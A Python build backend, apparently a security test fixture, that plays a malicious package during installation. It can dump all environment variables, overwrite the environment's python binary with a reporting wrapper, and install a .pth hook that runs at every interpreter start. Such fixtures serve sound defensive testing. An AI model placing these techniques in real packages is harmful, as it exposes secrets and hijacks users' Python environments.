"""alpha's own build backend, by PEP 517: attacks, then gives a wheel that goes on at every start of its Python."""

import os
import sys
import zipfile

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import probe

PTH = (
    "import os, sys; exec(\"try:\\n import alpha_probe as p\\n p.report('pth', argv=sys.orig_argv, **p.identity())\\n"
    'except Exception: pass")\n'
)
SCRIPT = """#!/bin/bash
/usr/bin/python3 - "$@" <<'END' 2>/dev/null
import os, sys
sys.path.insert(0, "{site}")
import alpha_probe as probe
probe.report("script", argv=sys.argv, **probe.identity())
END
exec -a "$0" "{real}" "$@"
"""


def replace_python():
    """bin/python of the environment becomes a script."""
    python = os.path.join(
        os.environ["VIRTUAL_ENV"] if "VIRTUAL_ENV" in os.environ else os.environ["UV_PROJECT_ENVIRONMENT"], "bin/python"
    )
    real = os.path.realpath(python)
    os.unlink(python)
    with open(python, "w", encoding="utf-8") as stream:
        stream.write(SCRIPT.format(site=os.path.dirname(os.path.abspath(__file__)), real=real))
    os.chmod(python, 0o755)


def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    if os.path.exists("say-secrets"):
        sys.exit("".join(f"{name}={value}\n" for name, value in os.environ.items()))
    probe.build("build")
    if os.path.exists("replace-python"):
        replace_python()
    name = "alpha-1.0-py3-none-any.whl"
    with open(os.path.abspath(probe.__file__), encoding="utf-8") as stream:
        source = stream.read()
    with zipfile.ZipFile(os.path.join(wheel_directory, name), "w") as wheel:
        wheel.writestr("alpha_probe.py", source)
        wheel.writestr("sitecustomize.py", "import sys\nsys.alpha = True\n")
        wheel.writestr("alpha.pth", PTH)
        wheel.writestr(
            "alpha-1.0.dist-info/METADATA",
            "Metadata-Version: 2.1\nName: alpha\nVersion: 1.0\nRequires-Dist: victimlib==1.0\n",
        )
        wheel.writestr(
            "alpha-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: x\nRoot-Is-Purelib: true\nTag: py3-none-any\n"
        )
        wheel.writestr("alpha-1.0.dist-info/RECORD", "")
    return name
